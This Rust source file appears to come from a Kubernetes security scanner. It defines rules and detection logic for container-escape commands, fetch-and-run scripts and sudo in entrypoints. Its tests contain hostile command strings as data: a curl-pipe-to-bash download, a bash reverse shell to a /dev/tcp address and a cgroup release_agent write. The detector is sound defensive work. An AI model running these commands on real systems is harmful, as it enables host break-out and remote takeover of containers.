//! Commands that break out, fetch code, or ask for root.

use crate::prelude::*;

pub(super) static TABLE: Table = Table { rules: &RULES, check };

pub(super) static ENTRY: crate::Entry = crate::Entry::Table(&TABLE);

static RULES: [Rule; 3] = [
    rule_row! {
        /// The command leaves the container for its node.
        ///
        /// ## Why it matters
        /// `nsenter` into process 1, `chroot` into a mounted root, a mounted disk or a loaded kernel module is the last
        /// step of a break-out: what follows runs as root on the node.
        ///
        /// ## How to fix
        /// Let the node's own configuration do the work, or give the program the one thing it needs.
        ///
        /// ## References
        /// - MITRE ATT&CK, T1611, Escape to Host
        id: "host-escape-command",
        owasp: K01,
        severity: Critical,
        title: "the command leaves the container for its node",
        tags: ["external/cwe/cwe-250"],
    },
    rule_row! {
        /// The container fetches a script and runs it.
        ///
        /// ## Why it matters
        /// Whoever controls the address, or the way to it, runs code in the pod; the image that was scanned and signed does
        /// not hold what runs.
        ///
        /// ## How to fix
        /// Put the script into the image.
        ///
        /// ## References
        /// - CWE-494, Download of Code Without Integrity Check
        id: "remote-script-execution",
        owasp: K01,
        severity: Medium,
        title: "the container fetches a script and runs it",
        tags: ["external/cwe/cwe-494"],
    },
    rule_row! {
        /// The command asks for root by `sudo`.
        ///
        /// ## Why it matters
        /// The image lets its user become root, and needs privilege escalation to be allowed.
        ///
        /// ## How to fix
        /// Run as the user that the program needs, and remove `sudo` from the image.
        ///
        /// ## References
        /// - Kubernetes, Pod Security Standards, Restricted: Privilege Escalation
        id: "sudo-in-entrypoint",
        owasp: K01,
        severity: Low,
        title: "the command asks for root by `sudo`",
        tags: ["external/cwe/cwe-250"],
    },
];

fn check(scan: &Scan<'_>, out: &mut Findings<'_>) {
    let [escape, remote, sudo] = &RULES;
    for container in scan.graph.containers() {
        for command in container.command_words() {
            let words: Vec<&str> = command.iter().map(|(word, _)| *word).collect();
            if let Some((at, what)) = escapes(container, &words) {
                let finding = out.report(escape, container, command[at].1, what);
                if container.workload().node_addon().is_some() {
                    finding.expected("a known program of nodes");
                }
            }
            if let Some(at) = runs_remote(&words) {
                out.report(remote, container, command[at].1, "what is fetched is run");
            }
            if let Some(at) = (0..words.len()).find(|&at| starts(&words, at) && base(words[at]) == "sudo") {
                out.report(sudo, container, command[at].1, "asks for root");
            }
        }
    }
}

/// The last component of a program's path.
fn base(word: &str) -> &str {
    word.trim_matches(['"', '\'', ';', '(', ')']).rsplit('/').next().unwrap_or_default()
}

/// Tells whether a word is a program: the first of a command, or the first after something that starts another.
fn starts(words: &[&str], at: usize) -> bool {
    let Some(before) = at.checked_sub(1).map(|before| words[before]) else { return true };
    let starters =
        ["&&", "||", "|", "-c", "-ec", "-exc", "-lc", "do", "else", "exec", "if", "sudo", "then", "{", "!"];
    starters.contains(&before) || before.ends_with(';') || before.ends_with('(')
}

/// The words from one on to where its command ends.
fn rest<'w>(words: &'w [&'w str], at: usize) -> &'w [&'w str] {
    let tail = &words[at + 1..];
    let end = tail.iter().position(|word| matches!(*word, "&&" | "||" | "|" | ";") || word.ends_with(';'));
    &tail[..end.map_or(tail.len(), |end| (end + 1).min(tail.len()))]
}

fn escapes(container: Container<'_>, words: &[&str]) -> Option<(usize, &'static str)> {
    (0..words.len()).find_map(|at| {
        let tail = rest(words, at);
        let what = match base(words[at]) {
            "nsenter" if enters_init(tail) => "enters the namespaces of the node",
            "chroot" if tail.iter().any(|word| is_of_host(container, word)) => {
                "changes into the node's file system"
            }
            "docker" | "nerdctl" if tail.first() == Some(&"run") && tail.contains(&"--privileged") => {
                "starts a privileged container beside itself"
            }
            "mount" if starts(words, at) && tail.iter().any(|word| is_disk(word)) => {
                "mounts a disk of the node"
            }
            "insmod" | "modprobe" if starts(words, at) && loads_modules(container) => "loads a kernel module",
            _ if is_written(words, at) => "writes what the kernel runs on the node",
            _ => return None,
        };
        Some((at, what))
    })
}

fn enters_init(words: &[&str]) -> bool {
    words.iter().enumerate().any(|(at, word)| {
        matches!(*word, "-t1" | "--target=1")
            || matches!(*word, "-t" | "--target") && words.get(at + 1).is_some_and(|next| *next == "1")
    })
}

/// Tells whether a path lies in a volume of the node's file system.
fn is_of_host(container: Container<'_>, path: &str) -> bool {
    path.starts_with('/')
        && container.mounts().any(|mount| {
            mount.path().known().is_some_and(|place| path == place || path.starts_with(&format!("{place}/")))
                && mount.volume().is_some_and(|volume| !volume.host_path().is_absent())
        })
}

fn is_disk(word: &str) -> bool {
    ["/dev/nvme", "/dev/sd", "/dev/vd", "/dev/xvd", "/dev/mapper/"].iter().any(|disk| word.starts_with(disk))
}

fn loads_modules(container: Container<'_>) -> bool {
    container.privileged().is(true)
        || container.capabilities().find_added(|name| matches!(name, "ALL" | "SYS_MODULE")).is_some()
}

/// Tells whether a word is a file by which the kernel starts programs on the node, and is written to.
fn is_written(words: &[&str], at: usize) -> bool {
    let word = words[at];
    let file = ["release_agent", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"]
        .iter()
        .any(|file| word.trim_matches(['"', '\'', ';']).ends_with(file));
    let before = at.checked_sub(1).map_or("", |before| words[before]);
    file && (word.starts_with('>') || before.ends_with('>') || base(before) == "tee")
}

const SHELLS: [&str; 9] = ["ash", "bash", "dash", "node", "perl", "python", "python3", "sh", "zsh"];

/// The word that fetches what a shell is then fed with.
fn runs_remote(words: &[&str]) -> Option<usize> {
    let fetches = |word: &str| matches!(base(word.trim_start_matches(['<', '$'])), "curl" | "wget");
    (0..words.len()).find(|&at| {
        // What is sent to the container itself comes from nowhere else.
        if let Some((_, host)) = words[at].split_once("/dev/tcp/") {
            return !["localhost", "127.", "$"].iter().any(|own| host.starts_with(own));
        }
        if !fetches(words[at]) {
            return false;
        }
        // `bash <(curl …)`, `sh -c "$(curl …)"`
        let before = words[..at].iter().rev().take(2);
        let fed = words[at].trim_start_matches(['"', '\'']).starts_with(['<', '$'])
            && before.into_iter().any(|word| SHELLS.contains(&base(word)));
        let tail = &words[at + 1..];
        let end = tail.iter().position(|word| matches!(*word, "&&" | "||" | ";") || word.ends_with(';'));
        let mut open = tail[..end.map_or(tail.len(), |end| (end + 1).min(tail.len()))].iter().peekable();
        let mut piped = false;
        while let Some(word) = open.next() {
            // `… |sh` and `… | sudo bash -s`
            let after = match word.rsplit_once('|') {
                Some((_, "")) => {
                    let next = open.find(|word| !matches!(**word, "sudo" | "-E" | "env"));
                    next.copied().unwrap_or_default()
                }
                Some((_, after)) => after,
                None => continue,
            };
            piped |= SHELLS.contains(&base(after));
        }
        fed || piped
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &str) -> Vec<&str> {
        command.split_whitespace().collect()
    }

    #[test]
    fn fetched_scripts_are_seen() {
        for (command, expected) in [
            ("sh -c curl -fsSL https://x.example/i.sh | bash", Some(2)),
            ("wget -qO- https://x.example |sh -s", Some(0)),
            ("curl https://x.example | sudo -E bash -", Some(0)),
            ("bash -c bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", Some(5)),
            ("bash <(curl -s https://x.example)", Some(1)),
            ("curl https://x.example | jq .name", None),
            ("echo GET / >/dev/tcp/localhost/9001", None),
            ("curl -o a.sh https://x.example && sh other.sh", None),
            ("curl https://x.example ; echo a | sh", None),
        ] {
            assert_eq!(runs_remote(&words(command)), expected, "{command}");
        }
    }

    #[test]
    fn init_is_entered_by_its_number() {
        assert!(enters_init(&words("--target 1 --mount -- bash")));
        assert!(enters_init(&words("-t1 -m")));
        assert!(!enters_init(&words("-t 1234 -n ip addr")));
    }

    #[test]
    fn files_of_the_kernel_are_written_to() {
        let written = |command: &str| {
            let words = words(command);
            (0..words.len()).any(|at| is_written(&words, at))
        };
        assert!(written("echo /x > /tmp/cgrp/release_agent"));
        assert!(written("echo c | tee /proc/sysrq-trigger"));
        assert!(!written("cat /proc/sys/kernel/core_pattern"));
    }
}
